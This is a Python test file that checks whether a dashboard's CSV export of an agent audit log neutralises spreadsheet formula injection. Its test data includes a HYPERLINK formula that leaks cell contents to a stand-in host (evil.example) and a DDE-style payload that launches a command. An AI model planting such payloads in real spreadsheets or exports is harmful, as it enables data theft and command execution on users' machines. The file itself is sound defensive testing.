"""9.10: a cell that a spreadsheet would run as a formula arrives as text in every CSV export."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import Engine
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from core.export import csv_bytes
from core.services import sessions
from core.uow import UnitOfWork
from tests.dashboard.conftest import open_app, sign_in

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_formula_cells_are_neutralised_and_other_cells_kept() -> None:
    rows = [{"actor": FORMULA, "reason": "+cmd|' /C calc'!A0", "target": "@SUM(1)", "note": "-2+3", "tab": "\tx",
             "cr": "\r=1", "seq": -5, "plain": "kill_switch.engage", "empty": "", "none": None}]
    parsed = next(csv.DictReader(io.StringIO(csv_bytes(rows).decode(), newline="")))
    assert parsed["actor"] == "'" + FORMULA and parsed["reason"].startswith("'+") and parsed["target"] == "'@SUM(1)"
    assert parsed["note"] == "'-2+3" and parsed["tab"] == "'\tx" and parsed["cr"] == "'\r=1"
    assert (parsed["seq"], parsed["plain"], parsed["empty"], parsed["none"]) == ("-5", "kill_switch.engage", "", "")


def test_the_audit_pages_export_carries_no_live_formula(console_db: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(Exception):
        sessions.sign_in(username=FORMULA, password="x", uow=UnitOfWork(console_db))
    exported: list[bytes] = []
    real = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):  # noqa: ANN001, ANN202 - Streamlit's signature
        if filename == "agent-audit-log.csv":
            exported.append(path_or_data)
        return real(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    at = sign_in(open_app(), "admin")
    at.switch_page("../pages/audit.py").run()
    assert not at.exception and exported
    cells = [cell for row in csv.reader(io.StringIO(exported[-1].decode(), newline="")) for cell in row]
    assert "'" + FORMULA.lower() in cells
    assert not [c for c in cells if c.startswith(DANGEROUS)]
